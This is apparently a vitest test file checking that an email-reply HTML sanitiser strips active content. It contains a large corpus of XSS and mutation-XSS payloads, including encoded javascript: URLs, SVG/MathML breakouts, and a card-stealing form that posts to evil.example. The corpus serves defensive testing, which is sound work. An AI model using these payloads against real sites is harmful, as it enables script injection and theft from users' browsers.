import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { parseInbound } from "../integrations/mail/inbound-mail.ts";
import { sanitizeUserHtml } from "./sanitize.ts";

/**
 * XSS and mXSS corpus: every payload goes through `sanitizeUserHtml` (as a reply's HTML does before
 * it is stored and shown), and what comes out is read twice. Once by an HTML parser (htmlparser2),
 * for the elements and attributes it holds. Once as a browser's tokenizer sees it, which is what
 * rules out mutation XSS: every "<" must open or close an allowed tag with double-quoted
 * attributes, none of which switches the tokenizer out of its data state (no raw-text, RCDATA or
 * foreign element, no comment, no CDATA), so a browser builds exactly the elements checked here.
 */
const ALLOWED: Record<string, string[]> = {
  ...Object.fromEntries(
    "p br div span b strong i em u s ul ol li h1 h2 h3 h4 blockquote hr table thead tbody tr"
      .split(" ")
      .map((t) => [t, []]),
  ),
  a: ["href", "title", "target", "rel"],
  img: ["src", "alt", "width", "height"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
};
const FORBIDDEN_ELEMENTS =
  "script style iframe frame frameset object embed applet form input button textarea select option base meta link svg math noscript template title xmp plaintext noembed noframes marquee video audio source details".split(
    " ",
  );
const URL_ATTRIBUTES = new Set(
  "href src srcset action formaction background poster data cite longdesc lowsrc dynsrc ping codebase manifest icon xlink:href".split(
    " ",
  ),
);
const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:", "sms:", "tel:"]);
const RASTER_DATA = /^data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*$/i;
const APP = "https://app.recoup.example/v1/business/invoice/email-threads";

type Element = { name: string; attribs: Record<string, string> };

function parsed(html: string) {
  const elements: Element[] = [];
  const other: string[] = [];
  const parser = new Parser(
    {
      onopentag: (name, attribs) => elements.push({ name, attribs }),
      oncomment: (data) => other.push(`comment ${data}`),
      oncdatastart: () => other.push("cdata"),
      onprocessinginstruction: (name) => other.push(`instruction ${name}`),
    },
    { decodeEntities: true },
  );
  parser.end(html);
  return { elements, other };
}

/** What is wrong with sanitised HTML (nothing, for the test to pass). */
function problems(html: string): string[] {
  const found: string[] = [];
  const { elements, other } = parsed(html);
  found.push(...other);
  for (const { name, attribs } of elements) {
    if (FORBIDDEN_ELEMENTS.includes(name)) found.push(`<${name}>`);
    if (!ALLOWED[name]) found.push(`<${name}> is not on the allow-list`);
    for (const [attribute, value] of Object.entries(attribs)) {
      if (/^on/i.test(attribute)) found.push(`${name}[${attribute}]`);
      if (!ALLOWED[name]?.includes(attribute)) found.push(`${name}[${attribute}] is not on the allow-list`);
      if (attribute === "style" && /expression|url\s*\(|javascript|behavior|@import/i.test(value)) {
        found.push(`${name}[style=${value}]`);
      }
      if (URL_ATTRIBUTES.has(attribute)) {
        // Read as a browser would, relative to the page the frame sits in.
        const url = new URL(value, APP);
        if (name === "img") {
          const ok =
            URL.canParse(value) &&
            (url.protocol === "https:" || (url.protocol === "data:" && RASTER_DATA.test(url.href)));
          if (!ok) found.push(`img[src=${value}]`);
        } else if (!SAFE_PROTOCOLS.has(url.protocol)) {
          found.push(`${name}[${attribute}=${value}] (${url.protocol})`);
        }
      }
    }
    if (name === "a" && attribs.target !== undefined && !/\bnoopener\b/.test(attribs.rel ?? "")) {
      found.push(`a[target] without rel=noopener`);
    }
  }
  // The tokenizer's view: tags with double-quoted attributes, and text with nothing that opens one.
  const tag = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
  for (const [, , name, attributes] of html.matchAll(tag)) {
    if (!ALLOWED[name!.toLowerCase()]) found.push(`tag <${name}> in the markup`);
    for (const [, attribute] of attributes!.matchAll(/\s+([a-zA-Z-]+)(?:="[^"<>]*")?/g)) {
      if (!ALLOWED[name!.toLowerCase()]?.includes(attribute!.toLowerCase())) {
        found.push(`${name}[${attribute}] in the markup`);
      }
    }
  }
  const text = html.replace(tag, "");
  if (text.includes("<"))
    found.push(`a "<" outside a tag: ${text.slice(text.indexOf("<"), text.indexOf("<") + 40)}`);
  const entity = /&(?:[a-zA-Z][a-zA-Z0-9]*|#\d+|#x[0-9a-fA-F]+);/g;
  if (text.replace(entity, "").includes("&")) found.push("an unterminated character reference");
  return found;
}

const expectSafe = (payload: string) => {
  const once = sanitizeUserHtml(payload);
  expect(problems(once), once).toEqual([]);
  // Sanitising what was sanitised changes nothing (no mutation on a second pass).
  expect(sanitizeUserHtml(once)).toBe(once);
  return once;
};

const PAYLOADS: string[] = [
  // script elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  "<<script>alert(1);//<</script>",
  "<scri\u0000pt>alert(1)</scri\u0000pt>",
  // event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img """><script>alert(1)</script>">',
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover</div>',
  "<p/onclick=alert(1)>x",
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<frameset onload=alert(1)>",
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" onmouseover=alert(1)>x</td></tr></table>',
  // javascript:, vbscript:, data: and other schemes, plain, entity-encoded and split by whitespace
  "<IMG SRC=\"javascript:alert('XSS');\">",
  '<img src="https://a.example/x.png" srcset="javascript:alert(1) 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src=" data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#x1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript&#58;msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="  data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
  '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
  '<a href="blob:https://app.recoup.example/0b7e2f1d">x</a>',
  // frames, plugins, forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  "<iframe><img src=x onerror=alert(1)></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/steal"><input name=card><button>Pay now</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  // SVG and MathML namespace confusion
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  // raw-text and template elements (mXSS)
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<noscript><style></noscript><img src=x onerror=alert(1)>",
  "<style><img src=x onerror=alert(1)></style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<template><script>alert(1)</script></template>",
  "<template><img src=x onerror=alert(1)></template>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  // comments, CDATA and processing instructions that break out
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
  // the document around the content
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // CSS
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<span style="background-image:url(&quot;javascript:alert(1)&quot;)">x</span>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  // links that open windows, attribute breakouts, nesting
  '<a href="https://ok.example/" target="_blank">x</a>',
  '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example/" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<img alt="`<img src=x onerror=alert(1)>`" src="https://a.example/x.png">',
  '<a href="https://ok.example/&#x22;onmouseover=alert(1)">x</a>',
  '<div><a href="https://ok.example/"><div><a href="javascript:alert(1)">nested</a></div></a></div>',
  "<p><b><i><u>unclosed",
  "<table><tr><td>a<table><tr><td>b</td></tr></table><img src=x onerror=alert(1)>",
  '<div id="x" class="y" data-x="javascript:alert(1)">x</div>',
];

describe("sanitizeUserHtml: the XSS and mXSS corpus", () => {
  it("holds at least 40 payloads", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
  });

  it.each(PAYLOADS)("%s leaves no active content", (payload) => {
    expectSafe(payload);
  });

  it("keeps what is safe: text, formatting, https and mailto/tel links, https and raster data pictures", () => {
    const png =
      "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
    const html = expectSafe(
      `<p>Paid <b>today</b> &amp; <i>thanks</i></p><a href="https://bank.example/r/1" target="_blank">remittance</a> <a href="mailto:ap@example.com">ap</a> <a href="tel:+441234567890">call</a><img src="https://cdn.example/logo.png" alt="Logo"><img src="${png}" alt="dot">`,
    );
    expect(html).toContain("<p>Paid <b>today</b> &amp; <i>thanks</i></p>");
    expect(html).toContain(
      '<a href="https://bank.example/r/1" target="_blank" rel="noopener noreferrer nofollow">remittance</a>',
    );
    expect(html).toContain('href="mailto:ap@example.com"');
    expect(html).toContain('href="tel:+441234567890"');
    expect(html).toContain('<img src="https://cdn.example/logo.png" alt="Logo" />');
    expect(html).toContain(`src="${png}"`);
    // A relative picture would be a request to Recoup itself from the frame; it is dropped.
    expect(expectSafe('<img src="/v1/auth/logout"><img src="x.png">')).toBe("");
  });

  it("leaves nothing active in random mixes of the payloads' pieces (mXSS fuzzing)", () => {
    const pieces = [
      "<",
      ">",
      "</",
      "/>",
      '"',
      "'",
      "`",
      "=",
      " ",
      "\n",
      "\u0000",
      "&",
      "&lt;",
      "&#x3c;",
      "&#106;",
      "&colon;",
      "<!--",
      "-->",
      "--!>",
      "<![CDATA[",
      "]]>",
      "<?",
      "<svg>",
      "</svg>",
      "<math>",
      "<mtext>",
      "<mglyph>",
      "<style>",
      "</style>",
      "<noscript>",
      "</noscript>",
      "<template>",
      "<textarea>",
      "<title>",
      "<table>",
      "<td>",
      "<form>",
      "</form>",
      "<p>",
      "</p>",
      "<a href=",
      "<img src=",
      "javascript:alert(1)",
      "java\tscript:",
      "data:text/html,",
      "https://ok.example/",
      "onerror=alert(1)",
      " onload=",
      "<script>",
      "</script>",
      "<iframe srcdoc=",
      "style=",
      "expression(alert(1))",
      "url(javascript:x)",
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 24 }), (parts) => {
        expectSafe(parts.join(""));
      }),
      { numRuns: 2000 },
    );
  });

  it("leaves nothing active in the HTML of the inbound corpus's replies and automatic replies", async () => {
    const dir = join(import.meta.dirname, "../../test/fixtures/inbound");
    let withHtml = 0;
    for (const folder of ["auto", "reply", "bounce", "sisimai"]) {
      for (const file of readdirSync(join(dir, folder)).filter((f) => f.endsWith(".eml"))) {
        const mail = await parseInbound(readFileSync(join(dir, folder, file)), [], new Date());
        if (mail.html === null) continue;
        withHtml++;
        const html = expectSafe(mail.html);
        // What people wrote survives (the Outlook reply's words, its link).
        if (file === "en-outlook-top-posted.eml") {
          expect(html).toContain("next payment run on 4 December");
          expect(html).toContain('href="https://pay.brightwave.example/i/INV-1042"');
        }
      }
    }
    expect(withHtml).toBeGreaterThanOrEqual(15);
  });
});
